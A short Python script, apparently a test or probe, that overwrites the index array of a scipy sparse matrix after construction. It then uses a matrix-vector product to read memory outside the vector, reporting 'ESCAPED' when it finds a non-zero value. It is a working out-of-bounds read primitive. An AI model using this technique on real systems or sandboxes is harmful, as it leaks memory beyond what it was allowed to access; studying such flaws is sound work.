"""The index array of a sparse matrix is changed after it was checked: a product reads where it points."""
import numpy as np
from scipy import sparse

matrix = sparse.csr_array(np.ones((1, 1)))
zeros = np.zeros(1)
for index in range(1, 2048):
    matrix.indices[0] = index
    found = (matrix @ zeros)[0]
    if found != 0:
        print("ESCAPED:sparse_index", found)
        break
